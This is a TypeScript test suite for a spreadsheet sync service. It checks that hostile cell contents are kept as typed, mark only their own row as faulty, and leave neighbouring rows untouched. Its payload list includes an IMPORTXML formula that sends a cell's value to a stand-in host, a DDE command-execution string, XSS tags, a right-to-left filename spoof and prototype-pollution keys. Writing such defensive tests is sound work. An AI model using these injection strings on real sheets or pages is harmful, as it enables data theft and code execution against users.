/**
 * Hostile content in cells, through whole syncs: the row is judged, the neighbour's result stays what it was, what was
 * typed stands untouched, and the next sync finds nothing to do. That outputs are text and never formulas: RAW writes,
 * test/unit/adapters/sheets/google-sheets.test.ts.
 */
import type { Cell } from '../../functions/src/contract';
import { aPegawaiRow, aRealisasiRow, aTargetRow, NIP_A, NIP_B } from '../support/builders';
import { aWorld, UNIT, type World } from '../support/sync-world';

const KODE_B = 'XZ3ZBC';
const OF_B = `Pegawai Contoh 02 · ${NIP_B}`;
const LONG = 'x'.repeat(50_000);

/** Row 0 of each tab is the attacker's, row 1 a neighbour's. */
const twoPeople = (): Promise<World> =>
  aWorld({
    pegawai: [aPegawaiRow(), aPegawaiRow({ nip: NIP_B, nama: 'Pegawai Contoh 02' })],
    target: [aTargetRow(), aTargetRow({ pegawai: OF_B, kode: KODE_B, indikator: 'Rapat' })],
    realisasi: [aRealisasiRow({ realisasi: 100 }), aRealisasiRow({ kode: KODE_B, realisasi: 90 })],
  });
const neighbour = (world: World): unknown => ({
  target: world.shown('Target')[1],
  realisasi: world.shown('Realisasi')[1],
  rekap: world.shown('Rekap Pegawai')[1],
});
/** What stands in the neighbour's rows when nobody attacks. */
async function undisturbed(): Promise<unknown> {
  const world = await twoPeople();
  await world.run();
  return neighbour(world);
}
async function expectSettled(world: World): Promise<void> {
  const before = { firestore: world.firestore.version(), writes: world.sheets.writes };
  expect((await world.run()).outcome).toBe('unchanged');
  expect({ firestore: world.firestore.version(), writes: world.sheets.writes }).toEqual(before);
}

const HOSTILE = [
  { what: 'a formula that fetches', text: '=IMPORTXML("https://jahat.example/?"&A1,"//a")' },
  { what: 'a formula behind a plus', text: "+cmd|' /C calc'!A0" },
  { what: 'a formula behind a minus', text: '-2+3+cmd' },
  { what: 'a formula behind an at', text: '@SUM(1+1)*cmd' },
  { what: 'a script tag', text: '<script>alert(1)</script>' },
  { what: 'an image tag', text: '"><img src=x onerror=alert(1)>' },
  { what: 'a NUL', text: 'awal\u0000akhir' },
  { what: 'a right-to-left mark', text: 'laporan\u202Efdp.exe' },
  { what: 'an emoji of several parts', text: '👩🏽‍🏫 selesai' },
  { what: 'half a character', text: 'awal\uD83Dakhir' },
  { what: '__proto__', text: '__proto__' },
  { what: 'constructor', text: 'constructor' },
  { what: 'a replacement pattern', text: "$& $1 $` $'" },
];

describe('hostile text that is no fault', () => {
  it.each(HOSTILE)('$what in Indikator and Keterangan counts, is kept as it was typed, harms no neighbour', async ({ text }) => {
    const world = await twoPeople();
    world.type('Target', 0, 'Indikator', text);
    world.type('Realisasi', 0, 'Keterangan', text);
    await world.run();
    expect(world.shown('Target')[0]).toMatchObject({ Indikator: text, Status: 'Tercatat', Realisasi: 100 });
    expect(world.shown('Realisasi')[0]).toMatchObject({ Keterangan: text, Status: 'Tercatat', Indikator: text });
    expect(neighbour(world)).toEqual(await undisturbed());
    await expectSettled(world);
  }); // prettier-ignore

  it.each(HOSTILE)('$what as a name is kept, and the person counts', async ({ text }) => {
    const world = await twoPeople();
    world.type('Pegawai', 0, 'Nama', text);
    world.type('Target', 0, 'Pegawai', NIP_A);
    const report = await world.run();
    expect(report.counts).toMatchObject({ employees: 2, targets: 2, realisations: 2 });
    expect(world.shown('Rekap Pegawai').map((row) => row['Pegawai'])).toContain(text);
    expect(neighbour(world)).toEqual(await undisturbed());
    await expectSettled(world);
  });
});

describe('hostile text where a key or a number belongs', () => {
  it.each(HOSTILE)('$what in Realisasi is a fault of that row alone', async ({ text }) => {
    const world = await twoPeople();
    world.type('Realisasi', 0, 'Realisasi', text);
    await world.run();
    expect(world.shown('Realisasi')[0]).toMatchObject({ Realisasi: text, Status: 'Perlu diperbaiki' });
    expect(neighbour(world)).toEqual(await undisturbed());
    await expectSettled(world);
  });

  it.each(HOSTILE)('$what as Kode belongs to no target, and harms no neighbour', async ({ text }) => {
    const world = await twoPeople();
    world.type('Realisasi', 0, 'Kode', text);
    await world.run();
    expect(world.shown('Realisasi')[0]).toMatchObject({ Kode: text, Status: 'Perlu diperbaiki' });
    expect(neighbour(world)).toEqual(await undisturbed());
    await expectSettled(world);
  });

  it.each(HOSTILE)('$what as header is a column of people’s own', async ({ text }) => {
    const world = await twoPeople();
    world.rows('Realisasi')[0]?.push(text);
    world.rows('Realisasi')[1]?.push(text);
    await world.run();
    expect(world.shown('Realisasi')[0]).toMatchObject({ Status: 'Tercatat', Pesan: '' });
    expect(world.rows('Realisasi')[1]?.at(-1)).toBe(text);
    await expectSettled(world);
  });

  it('does not change what every object is made of', async () => {
    const world = await twoPeople();
    for (const tab of ['Target', 'Realisasi']) world.type(tab, 0, 'Kode', '__proto__');
    world.type('Target', 0, 'Indikator', '__proto__');
    await world.run();
    expect(Object.keys(Object.prototype)).toEqual([]);
    expect(({} as { status?: unknown }).status).toBeUndefined();
  });
});

describe('too much of it', () => {
  it.each(['Indikator', 'Rencana Hasil Kerja'])('50,000 characters in %s are a fault that says how many, in few words', async (header) => {
    const world = await twoPeople();
    world.type('Target', 0, header, LONG);
    await world.run();
    const [row] = world.shown('Target');
    expect(row).toMatchObject({ [header]: LONG, Status: 'Perlu diperbaiki' });
    expect(String(row?.['Pesan'])).toMatch(/50\.?000/);
    expect(String(row?.['Pesan']).length).toBeLessThan(1_000);
    const stored = JSON.stringify([...(await world.store.scorecards(UNIT, [NIP_A]))]);
    expect(stored).toContain(NIP_A);
    expect(stored.length).toBeLessThan(10_000);
    expect(neighbour(world)).toEqual(await undisturbed());
    await expectSettled(world);
  }); // prettier-ignore

  it('of one person in 120 cells stops nobody’s sync', async () => {
    const world = await twoPeople();
    const kode = (i: number): string => `BK${'BCDFGH'.charAt(i / 10)}2${'BCDFGHJKLM'.charAt(i % 10)}Q`;
    const many = Array.from({ length: 60 }, (_, i) => aTargetRow({ kode: kode(i), indikator: LONG, rhk: LONG }));
    world.rows('Target').push(...many);
    await world.run();
    const statuses = world.shown('Target').map((row) => row['Status']);
    expect(statuses).toEqual(['Tercatat', 'Tercatat', ...many.map(() => 'Perlu diperbaiki')]);
    expect(neighbour(world)).toEqual(await undisturbed());
    await expectSettled(world);
  });

  it('behind what is kept of a long cell is still seen to change', async () => {
    const world = await twoPeople();
    world.type('Target', 0, 'Indikator', LONG);
    await world.run();
    world.type('Target', 0, 'Indikator', `${LONG.slice(1)}y`);
    expect((await world.run()).outcome).toBe('changed');
  });

  it('50,000 characters as a number are a fault with a message that can be read', async () => {
    const world = await twoPeople();
    world.type('Realisasi', 0, 'Realisasi', LONG);
    await world.run();
    const [row] = world.shown('Realisasi');
    expect(row?.['Status']).toBe('Perlu diperbaiki');
    expect(String(row?.['Pesan']).length).toBeLessThan(1_000);
    expect(neighbour(world)).toEqual(await undisturbed());
    await expectSettled(world);
  });

  it('a row of 10,000 columns is read by its headers', async () => {
    const world = await twoPeople();
    const wide = (cell: (i: number) => Cell): Cell[] => Array.from({ length: 10_000 }, (_, i) => cell(i));
    const [header = [], ...rows] = world.rows('Target');
    const own = header.length;
    header.push(...wide((i) => `Kolom ${i}`));
    for (const row of rows) {
      while (row.length < own) row.push('');
      row.push(...wide((i) => i));
    }
    await world.run();
    expect(world.shown('Target')[0]).toMatchObject({ Status: 'Tercatat', Realisasi: 100, 'Kolom 9999': 9_999 });
    await expectSettled(world);
  });
});
